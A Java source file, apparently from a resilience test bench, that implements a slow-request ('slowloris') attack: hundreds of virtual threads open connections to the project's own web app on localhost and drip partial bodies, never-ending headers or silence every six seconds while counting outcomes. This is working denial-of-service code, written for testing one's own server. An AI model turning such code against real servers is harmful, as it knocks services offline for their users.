package dev.kernvraag.attack;

import dev.kernvraag.bench.FlowClient;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;

/**
 * Hundreds of requests that send a byte each six seconds: forms to addresses of every kind, with and without a length, with
 * a session and without, and heads that never end.
 *
 * <p>Arguments: seconds (50).
 */
public final class SlowBodies implements Attack {
    private static final int BODIES = 240;
    private static final int HEADS = 400;
    private static final int SILENT = 100;
    private static final int EVERY_MILLIS = 6_000;
    private static final int LOOK_MILLIS = 250;
    private static final List<String> ADDRESSES = List.of(
            "/",
            "/login",
            "/setup",
            "/join/ABCD-EFGH",
            "/VAADIN/push?v-r=push&v-uiId=0",
            "/?v-r=uidl&v-uiId=0",
            "/?v-r=init&location=&query=",
            "/?v-r=heartbeat&v-uiId=0",
            "/VAADIN/dynamic/resource/0/" + new UUID(0, 0) + "/x",
            "/kv/brand/mark.svg",
            "/live/board",
            "/live/image/" + new UUID(0, 0) + "?as=participant&workshop=" + new UUID(0, 0),
            "/livez",
            "/logout");

    private SlowBodies() {}

    /** Attacks. */
    public static void main(String[] arguments) throws IOException, InterruptedException {
        Trial.of(new SlowBodies(), arguments);
    }

    @Override
    public String name() {
        return "slow-bodies";
    }

    @Override
    public void run(Target target) throws InterruptedException {
        String cookie = session(target);
        List<Thread> senders = new ArrayList<>();
        for (int i = 0; i < BODIES; i++) {
            int number = i;
            senders.add(Thread.ofVirtual().start(() -> again(target, "body", number, body(number, cookie))));
        }
        for (int i = 0; i < HEADS; i++) {
            int number = i;
            senders.add(Thread.ofVirtual()
                    .start(() -> again(target, "head", number, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")));
        }
        for (int i = 0; i < SILENT; i++) {
            int number = i;
            senders.add(Thread.ofVirtual().start(() -> again(target, "connection without a word", number, "")));
        }
        for (Thread sender : senders) {
            sender.join();
        }
    }

    private static String session(Target target) throws InterruptedException {
        FlowClient visitor = new FlowClient(target.port());
        try {
            visitor.load("");
        } catch (IOException e) {
            target.count("no session");
        }
        return visitor.cookie();
    }

    private static String body(int number, String cookie) {
        String address = ADDRESSES.get(number % ADDRESSES.size());
        boolean chunked = number % 3 == 1;
        boolean asks = number % 5 == 1;
        return (address.startsWith("/live/image") ? "PUT " : "POST ") + address + " HTTP/1.1\r\nHost: localhost\r\n"
                + "Content-Type: application/x-www-form-urlencoded\r\n"
                + (number % 2 == 0 ? "Cookie: " + cookie + "\r\n" : "")
                + (asks ? "Expect: 100-continue\r\n" : "")
                + (chunked ? "Transfer-Encoding: chunked\r\n\r\n" : "Content-Length: 1000\r\n\r\n");
    }

    private static void again(Target target, String what, int number, String head) {
        while (!target.isOver()) {
            long start = System.nanoTime();
            try (Wire wire = Wire.from(number % 8, target.port())) {
                wire.send(head);
                drip(target, wire, head.contains("chunked") ? "1\r\na\r\n" : head.isEmpty() ? "" : "a");
            } catch (IOException e) {
                target.count("connections that broke");
            }
            target.most(
                    "seconds that a " + what + " was waited for",
                    TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - start));
            target.count(what + " begun");
            target.pause(LOOK_MILLIS);
        }
    }

    private static void drip(Target target, Wire wire, String drop) throws IOException {
        long next = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(EVERY_MILLIS);
        while (!wire.isDone() && target.pause(LOOK_MILLIS)) {
            if (System.nanoTime() >= next) {
                wire.send(drop);
                next += TimeUnit.MILLISECONDS.toNanos(EVERY_MILLIS);
            }
        }
    }
}
